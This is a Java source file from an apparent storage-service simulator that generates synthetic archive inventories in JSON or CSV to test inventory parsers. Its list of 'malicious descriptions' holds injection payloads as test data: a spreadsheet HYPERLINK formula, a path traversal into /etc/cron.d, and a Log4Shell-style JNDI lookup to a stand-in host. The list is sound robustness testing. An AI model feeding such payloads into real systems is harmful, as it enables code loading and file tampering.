package io.github.glacierjob.simulator.bytes;

import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.util.List;

/**
 * Generates an inventory of any number of archives that do not exist. Every row has the same length, so that any range
 * can be generated alone when it is read. The description of archive {@code i} is {@code archive} and ten digits, unless
 * the description is {@link Nasty} or the id is missing.
 */
public final class GeneratedInventory extends Bytes {
    private static final String DIGITS = "0123456789abcdef";
    private static final String ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-";
    private static final int NUMBER_LENGTH = 10;
    private static final String ID = "I".repeat(138);
    private static final String HASH = "H".repeat(64);
    private static final String NUMBER = "#".repeat(NUMBER_LENGTH);
    private static final String PLAIN = "archive " + NUMBER;
    private static final int DESCRIPTION_LENGTH = 64;

    /** Descriptions of known tools, and malicious descriptions. */
    private static final List<String> ODD = List.of(
            "=HYPERLINK(\"http://x/\",\"" + NUMBER + "\")",
            "../../../etc/cron.d/" + NUMBER,
            "C:\\Users\\a\\con.txt:" + NUMBER,
            "a \"quoted\", with commas, " + NUMBER,
            "{\"Path\":\"holidays/" + NUMBER + ".jpg\",\"UTCDateModified\":\"x\"}",
            "<m><v>4</v><p>cGhvdG8=</p><lm>" + NUMBER + "</lm></m>",
            "mt2 eyJmaWxlbmFtZSI6Ii4uL3gifQ " + NUMBER,
            "${jndi:ldap://x/" + NUMBER + "} $simple{body} {{key}} %00",
            "the same description every time",
            "");

    private static final int MAX_ROWS = 256;

    private final boolean json;
    private final long count;
    private final Nasty nasty;
    private final byte[] head;
    private final byte[] tail;
    private final Row plain;
    private final Row withoutId;
    private final List<Row> odd;
    private final int rowLength;

    /** The numbers of entries in each thousand with a description that is hard to parse, and without an archive id. */
    public record Nasty(int descriptions, int missingIds) {
        /** No difficult entries. */
        public static final Nasty NONE = new Nasty(0, 0);
    }

    /** The template of a row, and the offsets of its parts; -1 for a missing part. */
    private record Row(byte[] form, int idAt, int numberAt, int hashAt) {}

    /** Creates an inventory in the format {@code JSON} or {@code CSV}. */
    public GeneratedInventory(String format, String vaultArn, long count, Nasty nasty) {
        super();
        this.json = format.equals("JSON");
        this.count = count;
        this.nasty = nasty;
        int width = nasty.equals(Nasty.NONE) ? PLAIN.length() : DESCRIPTION_LENGTH;
        this.plain = row(ID, padded(PLAIN, width));
        this.withoutId = row("", padded(PLAIN, width + ID.length()));
        this.odd = ODD.stream()
                .map(text -> row(ID, padded(json ? escaped(text) : text.replace("\"", "\\\""), width)))
                .toList();
        this.rowLength = plain.form.length;
        this.head = ascii(
                json
                        ? "{\"VaultARN\":\"" + vaultArn
                                + "\",\"InventoryDate\":\"2017-08-23T01:56:27Z\",\"ArchiveList\":["
                        : "ArchiveId,ArchiveDescription,CreationDate,Size,SHA256TreeHash\n");
        this.tail = ascii(json ? "]}" : "");
    }

    private static String padded(String text, int width) {
        return text + " ".repeat(Math.max(0, width - text.length()));
    }

    private static String escaped(String text) {
        return text.replace("\\", "\\\\").replace("\"", "\\\"");
    }

    private Row row(String id, String description) {
        String form = json
                ? "{\"ArchiveId\":\"" + id + "\",\"ArchiveDescription\":\"" + description
                        + "\",\"CreationDate\":\"2017-08-22T17:24:07Z\",\"Size\":5798098,\"SHA256TreeHash\":\"" + HASH
                        + "\"},"
                : id + ",\"" + description + "\",2017-08-22T17:24:07Z,5798098," + HASH + "\n";
        return new Row(ascii(form), form.indexOf(ID), form.indexOf(NUMBER), form.indexOf(HASH));
    }

    private Row row(long index) {
        int place = (int) (index % 1000);
        if (place < nasty.missingIds()) {
            return withoutId;
        }
        return place < nasty.missingIds() + nasty.descriptions() ? odd.get((int) (index % odd.size())) : plain;
    }

    private static byte[] ascii(String text) {
        return text.getBytes(StandardCharsets.US_ASCII);
    }

    /** The length of all rows, without the comma after the last row. */
    private long rowBytes() {
        return count * (long) rowLength - (json && count > 0 ? 1 : 0);
    }

    @Override
    public long size() {
        return head.length + rowBytes() + tail.length;
    }

    @Override
    public void writeTo(OutputStream out, long start, long end) throws IOException {
        checkRange(start, end);
        byte[] buffer = new byte[MAX_ROWS * rowLength];
        long rowsEnd = head.length + rowBytes();
        write(out, head, start, Math.min(end, head.length));
        long at = Math.max(start, head.length);
        while (at < Math.min(end, rowsEnd)) {
            long first = (at - head.length) / rowLength;
            int skip = (int) ((at - head.length) % rowLength);
            int filled = fill(buffer, first);
            int length = (int) Math.min(filled - skip, Math.min(end, rowsEnd) - at);
            out.write(buffer, skip, length);
            at += length;
        }
        write(out, tail, Math.max(0, start - rowsEnd), end - rowsEnd);
    }

    private static void write(OutputStream out, byte[] bytes, long from, long to) throws IOException {
        if (from < to) {
            out.write(bytes, (int) from, (int) (to - from));
        }
    }

    private int fill(byte[] buffer, long first) {
        int rows = (int) Math.min(MAX_ROWS, count - first);
        for (int i = 0; i < rows; i++) {
            write(buffer, i * rowLength, first + i);
        }
        return rows * rowLength;
    }

    private void write(byte[] buffer, int at, long index) {
        Row row = row(index);
        System.arraycopy(row.form, 0, buffer, at, rowLength);
        if (row.idAt >= 0) {
            spread(buffer, at + row.idAt, ID.length(), ALPHABET, index);
        }
        spread(buffer, at + row.hashAt, HASH.length(), DIGITS, index);
        long number = index;
        for (int digit = NUMBER_LENGTH - 1; digit >= 0 && row.numberAt >= 0; digit--) {
            buffer[at + row.numberAt + digit] = (byte) ('0' + number % 10);
            number /= 10;
        }
    }

    /** Fills a part of a buffer with pseudo-random characters that depend only on {@code index}. */
    private static void spread(byte[] buffer, int at, int length, String characters, long index) {
        int bits = Integer.numberOfTrailingZeros(characters.length());
        long random = 0;
        for (int i = 0; i < length; i++) {
            if (i % 10 == 0) {
                random = SeededBytes.mix(index * length + i);
            }
            buffer[at + i] = (byte) characters.charAt((int) random & (characters.length() - 1));
            random >>>= bits;
        }
    }
}
